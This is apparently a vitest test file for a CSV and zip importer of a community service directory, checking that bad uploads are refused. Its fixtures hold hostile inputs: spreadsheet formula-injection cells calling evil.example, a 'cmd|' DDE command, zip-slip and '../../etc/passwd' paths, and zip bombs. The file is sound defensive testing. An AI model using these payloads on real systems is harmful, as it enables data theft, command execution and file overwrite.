import { join } from "node:path";
import { zipSync } from "fflate";
import { sql } from "kysely";
import { describe, expect, it } from "vitest";
import { openTestHouse } from "../../../cast/test-house.ts";
import { importFolder } from "./commands.ts";
import { aFolder, aZip, changed, csvOf, ids, lanternStreet, type Table } from "./factory.ts";
import { uploadLimits } from "./files/rules.ts";
import type { RowReason, WholeReason } from "./types.ts";
import { say } from "./words.ts";

const house = await openTestHouse();
const limits = { ...uploadLimits, bytes: 20_000_000, cell: 10_000, row: 50_000 };
let sources = 0;

type Files = Parameters<typeof aFolder>[0];
const having = (name: string, content: string | Uint8Array): Files => ({ ...lanternStreet(), [name]: content });
const services = (): string => csvOf(lanternStreet()["services.csv"] ?? []);
const plus = (name: string, row: Readonly<Record<string, string>>): Files => changed(name, (rows) => [...rows, row]);
const first = (name: string, cells: Readonly<Record<string, string>>): Files => changed(name, (rows) => rows.map((row, at) => (at === 0 ? { ...row, ...cells } : row)));
const archive = (files: Readonly<Record<string, Uint8Array>>): string => join(aFolder({ "a.zip": zipSync(files) }), "a.zip");
const packed = (resource: object): Files => having("datapackage.json", JSON.stringify({ resources: [{ name: "service", path: "services.csv", ...resource }] }));
const text = (some: Table): Uint8Array => Buffer.from(csvOf(some));

/** An archive whose one file says that it is small, and is not. */
function lyingZip(): string {
  const files = Object.fromEntries(Object.entries(lanternStreet()).map(([name, rows]) => [name, text(rows)]));
  const bytes = Buffer.from(zipSync({ ...files, "services.csv": Buffer.from(services() + "x".repeat(5_000_000)) }));
  const size = Buffer.alloc(4);
  size.writeUInt32LE(services().length + 5_000_000);
  for (let at = bytes.indexOf(size); at >= 0; at = bytes.indexOf(size, at + 1)) bytes.writeUInt32LE(1_000, at);
  return join(aFolder({ "a.zip": bytes }), "a.zip");
}

/** The whole is refused: what was to be brought in, and the reason that is said. */
const wholes: readonly (readonly [what: string, path: () => string, reason: WholeReason])[] = [
  ["a file that was cut within a row", () => aFolder(having("services.csv", services().slice(0, -60))), "fileCut"],
  ["a file that was cut within quotation marks", () => aFolder(having("services.csv", `${services()}${ids.service},,"Half a na`)), "fileCut"],
  ["semicolons between the cells", () => aFolder(having("services.csv", csvOf(lanternStreet()["services.csv"] ?? [], ";"))), "delimiterWrong"],
  ["NUL bytes", () => aFolder(having("phones.csv", "id,number\nx,213\u00005550123\n")), "nulByte"],
  ["letters of another encoding", () => aFolder(having("services.csv", Buffer.from(services().replace("Circle", "Círculo"), "latin1"))), "encodingWrong"],
  ["UTF-16", () => aFolder(having("services.csv", Buffer.from(`\uFEFF${services()}`, "utf16le"))), "encodingWrong"],
  ["a letter cut in half at the end", () => aFolder(having("services.csv", Buffer.concat([Buffer.from(services()), Buffer.from([0xc3])]))), "encodingWrong"],
  ["a cell without end", () => aFolder(first("services.csv", { description: "x".repeat(20_000) })), "cellTooBig"],
  ["a line of a thousand million letters, packed small", () => archive({ "services.csv": Buffer.from(`id,name\n${"x".repeat(9_000_000)}`) }), "rowTooBig"],
  ["more columns than any table has", () => aFolder(having("services.csv", `id,name${",x".repeat(3_000)}\n`)), "notATable"],
  ["a missing heading", () => aFolder(having("services.csv", services().replace("name", "title"))), "headingMissing"],
  ["no line of headings", () => aFolder(having("services.csv", services().split("\n").slice(1).join("\n"))), "headingMissing"],
  ["a heading twice", () => aFolder(having("services.csv", services().replace("email", "url"))), "headingTwice"],
  ["two files put together, the mark of byte order and the headings in the middle", () => aFolder(having("services.csv", `${services()}\uFEFF${services()}`)), "headingsAgain"],
  ["a quotation mark within a cell without them", () => aFolder(having("services.csv", services().replace("Circle of Mothers", 'Circle "of Mothers'))), "quoteWrong"],
  ["a program instead of a table", () => aFolder({ "services.csv": Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0]) }), "nulByte"],
  ["no services at all", () => aFolder({ "phones.csv": "id,number\n1,2\n", "languages.csv": "id,name\n1,English\n" }), "noServices"],
  ["an empty folder", () => aFolder({}), "noTables"],
  ["an archive that would write elsewhere", () => archive({ "../services.csv": text(lanternStreet()["services.csv"] ?? []) }), "zipPathWrong"],
  ["an archive with a path from the root", () => archive({ "/etc/services.csv": text(lanternStreet()["services.csv"] ?? []) }), "zipPathWrong"],
  ["an archive with a path of Windows", () => archive({ "..\\services.csv": text(lanternStreet()["services.csv"] ?? []) }), "zipPathWrong"],
  ["an archive that grows without end", () => archive({ "services.csv": new Uint8Array(19_000_000).fill(120) }), "zipTooBig"],
  ["an archive of more than is taken", () => archive({ "services.csv": new Uint8Array(21_000_000).fill(120) }), "zipTooBig"],
  ["an archive that lies about its size", lyingZip, "zipTooBig"],
  ["an archive that was cut", () => join(aFolder({ "a.zip": zipSync({ "services.csv": Buffer.from(services()) }).subarray(0, 120) }), "a.zip"), "zipBroken"],
  ["an archive with one wrong byte", () => wrongByte(), "zipBroken"],
  ["one table twice in an archive", () => archive({ "a/services.csv": Buffer.from(services()), "b/services.csv": Buffer.from(services()) }), "fileTwice"],
  ["two names for one table", () => aFolder(having("service.csv", services())), "fileTwice"],
  ["a data package that lies about a size", () => aFolder(packed({ bytes: 5 })), "packageLies"],
  ["a data package that lies about a content", () => aFolder(packed({ hash: "sha256:00" })), "packageLies"],
  ["a data package with a sum of another kind", () => aFolder(packed({ hash: "crc32c:0a1b2c3d" })), "packageBroken"],
  ["a data package larger than any", () => aFolder(having("datapackage.json", `{"resources":[]${" ".repeat(5_000_000)}}`)), "packageBroken"],
  ["an archive of more files than are taken", () => archive(Object.fromEntries(Array.from({ length: limits.files + 1 }, (_, at) => [`${at}.txt`, new Uint8Array()]))), "zipTooBig"],
  ["a data package that promises what is not there", () => aFolder({ ...packed({ path: "nothing.csv", bytes: 12 }) }), "packageLies"],
  ["a data package that names a file outside", () => aFolder(packed({ path: "../../etc/passwd" })), "packagePathWrong"],
  ["a data package that is no JSON", () => aFolder(having("datapackage.json", "{")), "packageBroken"],
];

function wrongByte(): string {
  const bytes = Buffer.from(zipSync({ "services.csv": [Buffer.from(services()), { level: 0 }] } as never));
  bytes[bytes.indexOf("Circle")] = 0x58;
  return join(aFolder({ "a.zip": bytes }), "a.zip");
}

/** One row is refused, and what hangs on it; the others come in. */
const rows: readonly (readonly [what: string, files: () => Files, reason: RowReason, refused: number])[] = [
  ["a number of a service that is not there", () => plus("phones.csv", { id: "e0000000-0000-4000-8000-000000000002", service_id: "b0000000-0000-4000-8000-00000000dead", number: "213-555-0124" }), "parentMissing", 1],
  ["a number of nobody", () => plus("phones.csv", { id: "e0000000-0000-4000-8000-000000000002", number: "213-555-0124" }), "linkMissing", 1],
  ["an id that was there before", () => plus("services.csv", { id: ids.service, organization_id: ids.organization, name: "Another", status: "active" }), "idTwice", 1],
  ["a latitude of 200", () => first("locations.csv", { latitude: "200" }), "latitudeWrong", 3],
  ["a longitude of -500", () => first("locations.csv", { longitude: "-500" }), "longitudeWrong", 3],
  ["the number that was replaced in 2023", () => first("phones.csv", { number: "1-833-943-5746" }), "numberDead", 1],
  ["parents in a circle", () => changed("organizations.csv", (some) => [...some, { id: "a0000000-0000-4000-8000-000000000011", name: "A", parent_organization_id: "a0000000-0000-4000-8000-000000000012" }, { id: "a0000000-0000-4000-8000-000000000012", name: "B", parent_organization_id: "a0000000-0000-4000-8000-000000000011" }]), "parentCircle", 2],
  ["terms in a circle", () => first("taxonomy_terms.csv", { parent_id: ids.term }), "parentCircle", 2],
  ["a formula in a cell", () => first("services.csv", { name: '=HYPERLINK("http://evil.example","Circle")' }), "formula", 5],
  ["a command in a cell", () => first("services.csv", { alternate_name: "@SUM(1+1)*cmd|' /C calc'!A0" }), "formula", 5],
  ["a call in an id", () => plus("services.csv", { id: '-1+HYPERLINK("http://evil.example")', organization_id: ids.organization, name: "Other" }), "formula", 1],
  ["a call in a number", () => first("phones.csv", { number: '+1+IMPORTXML("http://evil.example/2135550123")' }), "formula", 1],
  ["a rule of repetition that is none", () => first("schedules.csv", { byday: "EVERYDAY" }), "ruleWrong", 1],
  ["a repetition each zero weeks", () => first("schedules.csv", { interval: "0" }), "ruleWrong", 1],
  ["a time of 25:00", () => first("schedules.csv", { opens_at: "25:00" }), "timeWrong", 1],
  ["hours that end before they begin", () => first("schedules.csv", { valid_from: "2026-05-01", valid_to: "2026-04-01" }), "spanBackwards", 1],
  ["made sure of next year", () => first("services.csv", { assured_date: "2027-12-31" }), "dayInFuture", 5],
  ["a service without a name", () => first("services.csv", { name: " " }), "cellMissing", 5],
  ["a row with too few cells", () => having("phones.csv", `id,service_id,number\n${ids.phone},${ids.service}\n`), "columnsWrong", 1],
  ["ends of lines within a row", () => having("phones.csv", `id,service_id,number\r\n${ids.phone},${ids.service}\r213-555-0123\n`), "columnsWrong", 2],
  ["an address that says nothing", () => first("addresses.csv", { address_1: "", city: " ", postal_code: "" }), "saysNothing", 1],
  ["a term on a kind of record that is none", () => first("attributes.csv", { link_entity: "spaceship" }), "linkUnknown", 1],
];

it("is at least forty", () => expect(wholes.length + rows.length).toBeGreaterThanOrEqual(40));

const inside = async (): Promise<number> =>
  (await sql<{ n: number }>`select ((select count(*) from services) + (select count(*) from organizations) + (select count(*) from locations) + (select count(*) from listings) + (select count(*) from listing_claims) + (select count(*) from taxonomies where source_id is not null) + (select count(*) from carried))::int as n`.execute(house.db)).rows[0]?.n ?? -1;

describe("refused as a whole, with nothing taken:", () => {
  it.each(wholes)("%s", async (_what, path, reason) => {
    const account = await importFolder(house, path(), `Whole ${(sources += 1)}`, limits);
    expect(account.refused?.reason).toBe(reason);
    expect(account).toMatchObject({ counts: {}, written: 0 });
    expect(await inside()).toBe(0);
    const kept = await house.db.selectFrom("directory_imports").select(["refused", "finished_at"]).where("id", "=", account.importId).executeTakeFirstOrThrow();
    expect(kept).toMatchObject({ refused: reason, finished_at: house.now() });
    for (const language of ["en", "es"] as const) expect(say(language)(`whole_${reason}`)).not.toBe("");
  });
});

describe("refused by the row, with what hangs on it and no more:", () => {
  it.each(rows)("%s", async (_what, files, reason, refused) => {
    await sql`delete from services`.execute(house.db);
    for (const name of ["organizations", "locations", "carried", "attributes", "directory_import_rows"]) await sql`delete from ${sql.table(name)}`.execute(house.db);
    await sql`delete from taxonomies where source_id is not null`.execute(house.db);
    const account = await importFolder(house, aFolder(files()), `Row ${(sources += 1)}`, limits);
    expect(account.refused).toBeUndefined();
    const found = await house.db.selectFrom("directory_import_rows").select(["file", "line", "reason"]).where("import_id", "=", account.importId).where("fate", "=", "refused").execute();
    expect(found.map((row) => row.reason)).toContain(reason);
    expect(found.every((row) => ["parentRefused", reason].includes(row.reason)), JSON.stringify(found)).toBe(true);
    const all = Object.values(account.counts);
    expect(all.reduce((sum, one) => sum + one.refused, 0)).toBe(refused);
    expect(found).toHaveLength(refused);
    expect(all.reduce((sum, one) => sum + one.taken, 0)).toBe(all.reduce((sum, one) => sum + one.rows, 0) - refused);
    // The other service is there to be found.
    expect(await house.db.selectFrom("listings").select("id").where("service_id", "=", ids.service2).execute()).toHaveLength(1);
    for (const language of ["en", "es"] as const) expect(say(language)(`row_${reason}`)).not.toBe("");
  });
});

it("a reading that fails within our own program leaves nothing either", async () => {
  await sql`delete from services`.execute(house.db);
  await sql`delete from organizations`.execute(house.db);
  await sql`create function refuse() returns trigger language plpgsql as 'begin raise exception ''no''; end'`.execute(house.db);
  await sql`create trigger refuse before insert on listings execute function refuse()`.execute(house.db);
  await expect(importFolder(house, aZip(lanternStreet()), "Fault", limits)).rejects.toThrow("no");
  await sql`drop trigger refuse on listings`.execute(house.db);
  expect(await house.db.selectFrom("services").select("id").execute()).toEqual([]);
  const kept = await house.db.selectFrom("directory_imports").select(["refused", "counts"]).orderBy("started_at", "desc").orderBy("id").where("refused", "=", "fault").executeTakeFirst();
  expect(kept).toEqual({ refused: "fault", counts: {} });
  expect((await importFolder(house, aZip(lanternStreet()), "Fault", limits)).refused).toBeUndefined();
});

